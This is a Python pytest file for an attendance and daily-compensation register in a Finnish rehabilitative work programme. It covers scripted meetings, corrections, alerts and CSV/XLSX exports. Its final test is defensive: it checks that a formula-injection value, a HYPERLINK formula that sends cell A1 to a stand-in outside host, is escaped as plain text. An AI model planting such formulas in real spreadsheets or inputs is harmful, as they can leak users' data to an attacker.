"""A scripted week of evidence, evaluated into the register and compared with a hand-written table.

Week 2026-W48. Group g-tue meets Tue and Thu on Teams 10-11 (Helsinki, = 08-09 UTC);
group g-wed meets Wed on Meet 10-11. Rules: 30 minutes, a return counts, 9 € a day.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, time
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from integrator.config import Rules
from integrator.domain.types import MeetingProvider, ServiceModel, StaffRole
from integrator.jobs.attendance.corrections import Actor, CorrectionError, correct_day
from integrator.jobs.attendance.evaluate import REPORT_KIND, evaluate_window, report_key
from integrator.jobs.attendance.identity import map_identity, unmatched_attendees
from integrator.reports.export import to_csv, to_xlsx
from integrator.reports.register import build_month, build_week
from integrator.store.db import Store
from integrator.store.models import (
    AttendanceDay,
    AuditEvent,
    Client,
    ExternalResource,
    MeetingAttendance,
    Membership,
    Organisation,
    PeerGroup,
    Period,
    StaffUser,
    Submission,
    WorkDay,
)

TUE, WED, THU = date(2026, 11, 24), date(2026, 11, 25), date(2026, 11, 26)
RULES = Rules()


def utc(d: date, hh: int, mm: int = 0) -> datetime:
    return datetime(d.year, d.month, d.day, hh, mm, tzinfo=UTC)


class Week:
    """Builds the scripted week straight into the store (no providers involved)."""

    def __init__(self, store: Store) -> None:
        self.store = store
        with store.session() as s:
            org = Organisation(key="testorg", name="Testikunta")
            s.add(org)
            s.flush()
            coord = StaffUser(organisation_id=org.id, email="ohjaaja@example.fi", display_name="Olli Ohjaaja",
                              role=StaffRole.COORDINATOR)
            worker = StaffUser(organisation_id=org.id, email="sosiaaliohjaaja@example.fi", display_name="Sari Sosiaali",
                               role=StaffRole.SOCIAL_WORKER)
            s.add_all([coord, worker])
            s.flush()
            self.org_id, self.coordinator_id, self.worker_id = org.id, coord.id, worker.id
            self.groups: dict[str, int] = {}
            self.work_days: dict[tuple[str, date], int] = {}
            for key, days, provider in (("g-tue", [TUE, THU], MeetingProvider.TEAMS),
                                        ("g-wed", [WED], MeetingProvider.MEET)):
                g = PeerGroup(organisation_id=org.id, key=key, name=key, weekdays=[d.isoweekday() for d in days],
                              meeting_start=time(10), meeting_end=time(11), meeting_provider=provider)
                s.add(g)
                s.flush()
                self.groups[key] = g.id
                for d in days:
                    w = WorkDay(group_id=g.id, day=d, iso_week="2026-W48", meeting_start=utc(d, 8),
                                meeting_end=utc(d, 9))
                    s.add(w)
                    s.flush()
                    self.work_days[(key, d)] = w.id
        self.clients: dict[str, int] = {}

    def client(self, code: str, group: str, weekdays: list[int], start: date = date(2026, 9, 1),
               model: ServiceModel = ServiceModel.LONG_TERM, briefed: datetime | None = None) -> None:
        with self.store.session() as s:
            c = Client(organisation_id=self.org_id, code=code, display_name=f"Asiakas {code}",
                       email=f"{code.lower()}@example.fi", entra_object_id=f"entra-{code}")
            s.add(c)
            s.flush()
            s.add(Period(client_id=c.id, service_model=model, start_date=start, end_date=date(2027, 3, 31),
                         weekdays=weekdays, briefing_recorded_at=briefed or utc(start, 9), responsible_worker_id=self.worker_id))
            s.add(Membership(group_id=self.groups[group], client_id=c.id, start_date=start))
            self.clients[code] = c.id

    def report_in(self, group: str, d: date, source: str = "teams") -> None:
        with self.store.session() as s:
            wd = self.work_days[(group, d)]
            s.add(ExternalResource(organisation_id=self.org_id, kind=REPORT_KIND,
                                   local_key=report_key(wd, source, f"r{wd}"), external_id=f"r{wd}"))

    def attended(self, code: str | None, group: str, d: date, *sessions: tuple[int, int, int, int],
                 source: str = "teams", key: str | None = None, phone: bool = False) -> None:
        """sessions in UTC (h1, m1, h2, m2); code None: an attendee nobody recognises."""
        intervals = [[utc(d, a, b).isoformat(), utc(d, c, e).isoformat()] for a, b, c, e in sessions]
        with self.store.session() as s:
            wd = self.work_days[(group, d)]
            s.add(MeetingAttendance(
                organisation_id=self.org_id, work_day_id=wd, source=source,
                record_key=f"r{wd}:{code or key}", participant_key=key or f"email:{(code or '').lower()}@example.fi",
                display_name=key, via_phone=phone, intervals=intervals,
                seconds=sum(int((datetime.fromisoformat(b) - datetime.fromisoformat(a)).total_seconds())
                            for a, b in intervals),
                client_id=self.clients[code] if code else None))

    def group(self, key: str, days: list[date], start_utc_hour: int) -> None:
        """Another Teams group meeting one hour from `start_utc_hour` (UTC) on these days."""
        with self.store.session() as s:
            g = PeerGroup(organisation_id=self.org_id, key=key, name=key, weekdays=[d.isoweekday() for d in days],
                          meeting_start=time(start_utc_hour + 2), meeting_end=time(start_utc_hour + 3),
                          meeting_provider=MeetingProvider.TEAMS)
            s.add(g)
            s.flush()
            self.groups[key] = g.id
            for d in days:
                w = WorkDay(group_id=g.id, day=d, iso_week="2026-W48", meeting_start=utc(d, start_utc_hour),
                            meeting_end=utc(d, start_utc_hour + 1))
                s.add(w)
                s.flush()
                self.work_days[(key, d)] = w.id

    def move(self, code: str, to_group: str, on: date) -> None:
        """The client's membership ends on `on` and one in `to_group` starts that same day."""
        with self.store.session() as s:
            for m in s.scalars(select(Membership).where(Membership.client_id == self.clients[code],
                                                        Membership.end_date.is_(None))).all():
                m.end_date = on
            s.add(Membership(group_id=self.groups[to_group], client_id=self.clients[code], start_date=on))

    def end_period(self, code: str, on: date) -> None:
        with self.store.session() as s:
            for p in s.scalars(select(Period).where(Period.client_id == self.clients[code])).all():
                p.end_date = on

    def attended_raw(self, code: str, group: str, d: date, intervals: list[list[str]], seconds: int = 0) -> None:
        """A meeting record exactly as a vendor might send it, corrupt sessions included."""
        with self.store.session() as s:
            wd = self.work_days[(group, d)]
            s.add(MeetingAttendance(
                organisation_id=self.org_id, work_day_id=wd, source="teams", record_key=f"r{wd}:{code}",
                participant_key=f"email:{code.lower()}@example.fi", display_name=None, via_phone=False,
                intervals=intervals, seconds=seconds, client_id=self.clients[code]))

    def evidence(self, code: str, group: str, d: date) -> dict[str, Any]:
        with self.store.session() as s:
            row = s.get(AttendanceDay, self.day_id(code, group, d))
            assert row is not None
            return dict(row.evidence)

    def returned(self, code: str, group: str, d: date, at: datetime, *, source: str = "classroom",
                 late: bool = False, mime: str | None = None) -> None:
        with self.store.session() as s:
            s.add(Submission(organisation_id=self.org_id, client_id=self.clients[code],
                             work_day_id=self.work_days[(group, d)], source=source,
                             external_id=f"{source}:{code}:{d}", state="TURNED_IN" if source == "classroom" else "added",
                             returned_at=at, late=late, mime_type=mime))

    def sync(self, rules: Rules = RULES, **kw: Any) -> None:
        evaluate_window(self.store, self.org_id, rules, now=utc(THU, 23), since=date(2026, 11, 23), **kw)

    def day_id(self, code: str, group: str, d: date) -> int:
        with self.store.session() as s:
            row = s.scalar(select(AttendanceDay).where(AttendanceDay.client_id == self.clients[code],
                                                       AttendanceDay.work_day_id == self.work_days[(group, d)]))
            assert row is not None
            return row.id


@pytest.fixture
def week(any_store: Store) -> Week:
    """The same week on SQLite and on PostgreSQL (when a server is given)."""
    w = Week(any_store)
    w.client("K-0001", "g-tue", [2, 4])
    w.client("K-0002", "g-tue", [2])
    w.client("K-0003", "g-tue", [2, 4])
    w.client("K-0004", "g-tue", [2, 4])
    w.client("K-0005", "g-tue", [2, 4])
    w.client("K-0006", "g-wed", [3], model=ServiceModel.SHORT_TERM)
    w.client("K-0007", "g-wed", [3], model=ServiceModel.INTERVAL)
    w.client("K-0008", "g-tue", [4], start=THU)  # period starts on Thursday
    w.client("K-0009", "g-tue", [4], model=ServiceModel.HYBRID)  # on site on Tuesdays

    # Tuesday: the Teams report is in.
    w.report_in("g-tue", TUE)
    w.attended("K-0001", "g-tue", TUE, (8, 0, 8, 45))
    w.attended("K-0002", "g-tue", TUE, (8, 40, 9, 0))  # 20 min: below the limit
    w.returned("K-0003", "g-tue", TUE, utc(TUE, 12), source="drive", mime="image/jpeg")  # a photo only
    # K-0004 and K-0005 leave no trace on Tuesday.

    # Wednesday (Meet): one unknown phone dial-in, K-0007 waits in the lobby.
    w.report_in("g-wed", WED, source="meet")
    w.attended(None, "g-wed", WED, (8, 0, 8, 50), source="meet", key="phone:+358 40 *** **12", phone=True)
    w.attended("K-0007", "g-wed", WED, (7, 30, 8, 20), source="meet")  # 50 min, only 20 inside the meeting

    # Thursday: returns are in; the Teams report is not (yet).
    w.returned("K-0001", "g-tue", THU, utc(THU, 10))
    w.returned("K-0003", "g-tue", THU, utc(THU, 23), late=True)
    return w


BEFORE_THURSDAY_REPORT = {
    "K-0001": {TUE: "present", THU: "present"},  # Thu: returned the task on time
    "K-0002": {TUE: "absent"},
    "K-0003": {TUE: "present", THU: "pending"},  # a late return proves nothing; the report decides
    "K-0004": {TUE: "absent", THU: "pending"},
    "K-0005": {TUE: "absent", THU: "pending"},
    "K-0006": {WED: "absent"},  # joined by phone, but nobody knows yet that it was K-0006
    "K-0007": {WED: "absent"},
    "K-0008": {THU: "pending"},
    "K-0009": {THU: "pending"},
}

FINAL = {
    "K-0001": {TUE: "present", THU: "present"},
    "K-0002": {TUE: "absent"},
    "K-0003": {TUE: "present", THU: "absent"},
    "K-0004": {TUE: "absent", THU: "absent"},
    "K-0005": {TUE: "excused", THU: "present"},
    "K-0006": {WED: "present"},
    "K-0007": {WED: "absent"},
    "K-0008": {THU: "present"},
    "K-0009": {THU: "absent"},
}

FINAL_COMPENSATION = {"K-0001": 2, "K-0002": 0, "K-0003": 1, "K-0004": 0, "K-0005": 1, "K-0006": 1,
                      "K-0007": 0, "K-0008": 1, "K-0009": 0}


def play_rest_of_week(week: Week) -> None:
    """The coordinator maps the phone number and excuses a sick day; Thursday's report arrives."""
    (phone,) = unmatched_attendees(week.store, week.org_id)
    map_identity(week.store, week.org_id, phone.source, phone.participant_key, week.clients["K-0006"],
                 week.coordinator_id)
    correct_day(week.store, week.day_id("K-0005", "g-tue", TUE), "excused", "sairausloma (lääkärintodistus)",
                Actor.staff(week.coordinator_id))
    week.report_in("g-tue", THU)
    week.attended("K-0001", "g-tue", THU, (8, 0, 8, 20))
    week.attended("K-0005", "g-tue", THU, (8, 0, 8, 20), (8, 10, 8, 40))  # two devices: 40 min, not 50
    week.attended("K-0008", "g-tue", THU, (8, 30, 9, 0))  # exactly the limit
    week.sync()


def test_register_before_thursdays_report_shows_pending_days(week: Week) -> None:
    week.sync()
    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
    assert reg.table() == BEFORE_THURSDAY_REPORT


def test_the_scripted_week_gives_the_hand_written_register(week: Week) -> None:
    week.sync()
    play_rest_of_week(week)
    reg = build_month(week.store, "testorg", "2026-11", rules=RULES)
    assert reg.table() == FINAL
    assert {r.client_code: r.compensation_days for r in reg.rows} == FINAL_COMPENSATION
    assert {r.client_code: r.amount for r in reg.rows}["K-0001"] == Decimal("18.00")
    assert reg.total_amount == Decimal("54.00")


def test_a_coordinators_decision_survives_every_later_sync_and_is_audited(week: Week) -> None:
    week.sync()
    play_rest_of_week(week)
    week.sync()
    with week.store.session() as s:
        row = s.get(AttendanceDay, week.day_id("K-0005", "g-tue", TUE))
        assert row is not None
        assert (row.computed_status.value, row.status.value) == ("absent", "excused")
        audit = s.scalars(select(AuditEvent).where(AuditEvent.action == "attendance.override")).all()
    assert [(a.details["client"], a.details["reason"], a.actor) for a in audit] == [
        ("K-0005", "sairausloma (lääkärintodistus)", f"staff:{week.coordinator_id}")]


def test_a_correction_without_a_reason_is_refused(week: Week) -> None:
    week.sync()
    with pytest.raises(CorrectionError, match="syy puuttuu"):
        correct_day(week.store, week.day_id("K-0004", "g-tue", TUE), "excused", "  ",
                Actor.staff(week.coordinator_id))
    with pytest.raises(CorrectionError, match="'pending' ei ole ohjaajan päätös"):
        correct_day(week.store, week.day_id("K-0004", "g-tue", TUE), "pending", "odotetaan", Actor("system"))


def test_a_masked_phone_number_mapped_once_is_not_reused_for_the_next_meeting(week: Week) -> None:
    week.sync()
    play_rest_of_week(week)
    assert unmatched_attendees(week.store, week.org_id) == []  # this meeting's record is attached
    with week.store.session() as s:
        from integrator.jobs.attendance.identity import ClientIndex

        index = ClientIndex.load(s, week.org_id)
    # "+358 40 *** **12" could be anyone next time: the coordinator is asked again (jobs.identity).
    assert index.resolve("meet", user_id=None, key="phone:+358 40 *** **12", email=None) is None


def test_each_day_explains_itself_in_finnish(week: Week) -> None:
    week.sync()
    play_rest_of_week(week)
    with week.store.session() as s:
        row = s.get(AttendanceDay, week.day_id("K-0005", "g-tue", THU))
        assert row is not None
    assert row.minutes == 40
    assert "Läsnä kokouksessa 40 min (raja 30 min)" in row.evidence["reasons"]


def test_csv_and_xlsx_carry_the_same_register(week: Week) -> None:
    week.sync()
    play_rest_of_week(week)
    reg = build_month(week.store, "testorg", "2026-11", rules=RULES)
    text = to_csv(reg)
    assert text.startswith("\ufeff")  # Finnish Excel reads the file as UTF-8 only with the BOM
    lines = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert lines[0] == ["asiakas", "ryhmä", "24.11.2026", "25.11.2026", "26.11.2026", "läsnä", "perusteltu",
                        "poissa", "odottaa", "korvauspäivät", "korvaus €", "huomautukset"]
    assert lines[1] == ["K-0001", "g-tue", "läsnä", "", "läsnä", "2", "0", "0", "0", "2", "18,00", ""]
    assert lines[5] == ["K-0005", "g-tue", "perusteltu poissaolo", "", "läsnä", "1", "1", "0", "0", "1", "9,00", ""]
    assert lines[-1][-3:] == ["6", "54,00", ""]

    wb = load_workbook(io.BytesIO(to_xlsx(reg)))
    ws = wb["Läsnäolot 2026-11"]
    rows = list(ws.iter_rows(values_only=True))
    header = rows[3]
    assert header[:5] == ("Asiakas", "Ryhmä", "ti 24.11.", "ke 25.11.", "to 26.11.")
    assert rows[4][:5] == ("K-0001", "g-tue", "läsnä", None, "läsnä")
    assert rows[-1][0] == "Yhteensä" and rows[-1][-2] == 54.0
    # Read as a viewer or an import would, without recalculating: the totals are there.
    cached = list(load_workbook(io.BytesIO(to_xlsx(reg)), data_only=True)["Läsnäolot 2026-11"]
                  .iter_rows(values_only=True))
    clients = [r for r in cached[4:-1] if r[0]]
    assert cached[-1][5:-1] == tuple(sum(r[k] for r in clients) for k in range(5, 11))
    assert cached[-1][-3:-1] == (6, 54.0)
    corrections = list(wb["Korjaukset"].iter_rows(values_only=True))
    assert corrections[1][:5] == ("K-0005", datetime(2026, 11, 24), "poissa", "perusteltu poissaolo",
                                  "sairausloma (lääkärintodistus)")


def test_a_group_register_has_only_that_groups_days(week: Week) -> None:
    week.sync()
    reg = build_month(week.store, "testorg", "2026-11", group_key="g-wed", rules=RULES)
    assert reg.table() == {"K-0006": {WED: "absent"}, "K-0007": {WED: "absent"}}


def test_two_absences_in_a_row_alert_the_responsible_worker_once_with_code_group_and_dates_only(week: Week) -> None:
    from integrator.jobs.attendance.alerts import queue_absence_alerts
    from integrator.store.models import OutboxMessage

    week.sync()
    play_rest_of_week(week)
    for _ in range(2):  # a second night changes nothing
        with week.store.session() as s:
            queue_absence_alerts(s, week.org_id, RULES, today=date(2026, 11, 27))
    with week.store.session() as s:
        sent = s.scalars(select(OutboxMessage)).all()
    assert [(m.to_address, m.subject) for m in sent] == [
        ("sosiaaliohjaaja@example.fi", "Toistuvia poissaoloja: asiakas K-0004")]
    assert sent[0].body_text == ("Asiakas K-0004 (ryhmä g-tue) on ollut poissa etäkuntouttavasta työtoiminnasta "
                                 "2 peräkkäisenä toimintapäivänä: 24.11.2026, 26.11.2026.\n")


def test_an_excused_day_breaks_the_streak(week: Week) -> None:
    from integrator.jobs.attendance.alerts import queue_absence_alerts

    week.sync()
    play_rest_of_week(week)
    correct_day(week.store, week.day_id("K-0004", "g-tue", THU), "excused", "sairausloma",
                Actor.staff(week.coordinator_id))
    with week.store.session() as s:
        result = queue_absence_alerts(s, week.org_id, RULES, today=date(2026, 11, 27))
    assert (result.streaks, result.queued) == (0, 0)


def test_a_corrupt_session_is_set_aside_and_everyone_else_is_still_evaluated(week: Week) -> None:
    week.attended_raw("K-0004", "g-tue", TUE, [[utc(TUE, 9).isoformat(), utc(TUE, 8).isoformat()]])  # leaves first
    week.attended_raw("K-0005", "g-tue", TUE, [["2026-11-24T08:00:00", "2026-11-24T08:45:00"]])  # no time zone
    week.sync()
    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
    assert reg.table() == BEFORE_THURSDAY_REPORT
    for code in ("K-0004", "K-0005"):
        evidence = week.evidence(code, "g-tue", TUE)
        assert evidence["meeting"]["rejected_intervals"] == 1
        assert any(r.startswith("1 kokousistuntoa hylätty virheellisinä") for r in evidence["reasons"])
    assert week.evidence("K-0001", "g-tue", TUE)["meeting"]["rejected_intervals"] == 0


def test_a_work_day_before_the_data_protection_briefing_is_not_expected(week: Week) -> None:
    week.client("K-0010", "g-tue", [2, 4], start=date(2026, 11, 23), briefed=utc(WED, 12))
    week.returned("K-0010", "g-tue", TUE, utc(TUE, 10))
    week.returned("K-0010", "g-tue", THU, utc(THU, 10))
    week.sync()
    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
    assert reg.table()["K-0010"] == {THU: "present"}


def moved_on_tuesday(week: Week) -> None:
    """K-0001 moves from g-tue to g-tue-late (Tue 12-13 local) on Tuesday; both meetings' reports are in."""
    week.group("g-tue-late", [TUE], start_utc_hour=10)
    week.move("K-0001", "g-tue-late", TUE)
    week.report_in("g-tue-late", TUE)


def test_a_client_moved_to_another_group_on_a_tuesday_is_paid_for_that_tuesday_once(week: Week) -> None:
    moved_on_tuesday(week)
    week.attended("K-0001", "g-tue-late", TUE, (10, 0, 10, 45))  # and was in the old group's meeting too
    week.sync()
    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
    (row,) = [r for r in reg.rows if r.client_code == "K-0001"]
    assert [(d.group, d.label) for d in row.days_on(TUE)] == [("g-tue", "läsnä"), ("g-tue-late", "läsnä")]
    assert (row.compensation_days, row.amount) == (1, Decimal("9.00"))
    assert row.notes == ["24.11.: kaksi toimintapäivää samana päivänä (g-tue, g-tue-late), korvaus enintään kerran"]


def test_a_date_with_two_work_days_shows_its_best_status_and_a_note_in_csv_and_xlsx(week: Week) -> None:
    moved_on_tuesday(week)
    with week.store.session() as s:  # K-0001 was not in the old group's meeting after all
        for m in s.scalars(select(MeetingAttendance).where(MeetingAttendance.client_id == week.clients["K-0001"])):
            s.delete(m)
    week.attended("K-0001", "g-tue-late", TUE, (10, 0, 10, 45))
    week.sync()
    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
    line = next(x for x in to_csv(reg).splitlines() if x.startswith("K-0001;"))
    assert line == ('K-0001;g-tue g-tue-late;läsnä;;;1;0;0;0;1;9,00;'  # Thursday: no longer in g-tue
                    '24.11.: kaksi toimintapäivää samana päivänä (g-tue, g-tue-late), korvaus enintään kerran')

    rows = list(load_workbook(io.BytesIO(to_xlsx(reg))).active.iter_rows(values_only=True))
    k1 = next(r for r in rows if r[0] == "K-0001")
    assert k1[2] == "läsnä" and k1[-1].startswith("24.11.: kaksi toimintapäivää")


def test_a_period_shortened_to_end_on_wednesday_no_longer_pays_thursday_after_the_next_sync(week: Week) -> None:
    week.sync()
    thursday = week.day_id("K-0001", "g-tue", THU)  # present: returned the task on time
    week.end_period("K-0001", WED)
    week.sync()
    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
    assert reg.table()["K-0001"] == {TUE: "present"}
    assert {r.client_code: r.amount for r in reg.rows}["K-0001"] == Decimal("9.00")
    with week.store.session() as s:
        assert s.get(AttendanceDay, thursday) is None
        (audit,) = s.scalars(select(AuditEvent).where(AuditEvent.action == "attendance.withdrawn")).all()
        assert (audit.entity_id, audit.details["client"], audit.details["day"], audit.details["computed"]) == (
            str(thursday), "K-0001", THU.isoformat(), "present")


def test_before_the_next_sync_the_register_shows_a_day_no_longer_expected_and_does_not_pay_it(week: Week) -> None:
    week.sync()
    week.end_period("K-0001", WED)
    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
    (row,) = [r for r in reg.rows if r.client_code == "K-0001"]
    assert reg.table()["K-0001"] == {TUE: "present", THU: "not_expected"}
    assert (row.compensation_days, row.amount) == (1, Decimal("9.00"))
    assert row.notes == ["26.11. (g-tue): ei enää odotettu toimintapäivä, laskettua tilaa (läsnä) ei huomioida"]
    line = next(x for x in to_csv(reg).splitlines() if x.startswith("K-0001;"))
    assert line.startswith("K-0001;g-tue;läsnä;;ei odotettu;1;0;0;0;1;9,00;")


def test_a_coordinators_decision_on_a_day_no_longer_expected_still_stands(week: Week) -> None:
    week.sync()
    correct_day(week.store, week.day_id("K-0001", "g-tue", THU), "present", "osallistui puhelimitse",
                Actor.staff(week.coordinator_id))
    week.end_period("K-0001", WED)
    week.sync()
    reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
    (row,) = [r for r in reg.rows if r.client_code == "K-0001"]
    assert reg.table()["K-0001"] == {TUE: "present", THU: "present"}
    assert row.compensation_days == 2
    assert row.notes == ["26.11. (g-tue): ei enää odotettu toimintapäivä, ohjaajan päätös (läsnä) on voimassa"]


def test_a_register_cannot_be_built_without_the_organisations_rules(week: Week) -> None:
    week.sync()
    with pytest.raises(TypeError):
        build_month(week.store, "testorg", "2026-11")  # type: ignore[call-arg]
    with pytest.raises(TypeError, match="rules"):
        build_month(week.store, "testorg", "2026-11", rules=None)  # type: ignore[arg-type]


def test_days_evaluated_at_an_earlier_rate_are_reported_at_that_rate_after_the_rate_changes(week: Week) -> None:
    week.sync(Rules(daily_compensation_eur=8.5))
    play_rest_of_week(week)  # re-evaluated the same week at 9 €: the first recorded rate stays
    reg = build_month(week.store, "testorg", "2026-11", rules=Rules(daily_compensation_eur=10.0))
    amounts = {r.client_code: r.amount for r in reg.rows}
    assert amounts["K-0001"] == Decimal("17.00")  # Tue and Thu, both evaluated first at 8.50 €
    assert amounts["K-0006"] == Decimal("8.50")  # Wed, absent at first, present after the mapping
    assert reg.rate == Decimal("10.0")
    assert "24.11.: korvaus 8.50 € (arvioitaessa voimassa ollut päivähinta)" in reg.rows[0].notes
    assert week.evidence("K-0001", "g-tue", TUE)["rules"]["daily_compensation_eur"] == 8.5


def test_a_day_without_a_recorded_rate_is_reported_at_the_configured_rate(week: Week) -> None:
    week.sync()
    with week.store.session() as s:  # as rows evaluated before rates were recorded
        for row in s.scalars(select(AttendanceDay)).all():
            row.evidence = {**row.evidence, "rules": {"attendance_min_minutes": 30}}
    reg = build_month(week.store, "testorg", "2026-11", rules=Rules(daily_compensation_eur=9.5))
    assert {r.client_code: r.amount for r in reg.rows}["K-0001"] == Decimal("19.00")


def test_a_cancelled_work_day_is_nobodys_absence_in_the_alerts(week: Week) -> None:
    from integrator.domain.types import WorkDayStatus
    from integrator.jobs.attendance.alerts import queue_absence_alerts

    week.sync()
    play_rest_of_week(week)  # K-0004: absent Tuesday and Thursday
    with week.store.session() as s:
        thursday = s.get(WorkDay, week.work_days[("g-tue", THU)])
        assert thursday is not None
        thursday.status = WorkDayStatus.CANCELLED
    with week.store.session() as s:
        result = queue_absence_alerts(s, week.org_id, RULES, today=date(2026, 11, 27))
    assert (result.streaks, result.queued) == (0, 0)


def test_a_day_no_longer_expected_is_not_an_absence_in_the_alerts(week: Week) -> None:
    from integrator.jobs.attendance.alerts import queue_absence_alerts

    week.sync()
    play_rest_of_week(week)  # K-0004: absent Tuesday and Thursday
    week.end_period("K-0004", WED)  # and the register no longer counts Thursday
    with week.store.session() as s:
        result = queue_absence_alerts(s, week.org_id, RULES, today=date(2026, 11, 27))
    assert (result.streaks, result.queued) == (0, 0)


def test_a_correction_reason_that_looks_like_a_formula_is_plain_text_in_the_xlsx(week: Week) -> None:

    week.sync()
    reason = '=HYPERLINK("http://example.invalid/?d="&A1,"Lue lisää")'
    correct_day(week.store, week.day_id("K-0004", "g-tue", TUE), "excused", reason,
                Actor.staff(week.coordinator_id))
    reg = build_month(week.store, "testorg", "2026-11", rules=RULES)
    ws = load_workbook(io.BytesIO(to_xlsx(reg)))["Korjaukset"]
    cell = ws.cell(2, 5)
    assert cell.data_type != "f"
    assert cell.value == "'" + reason
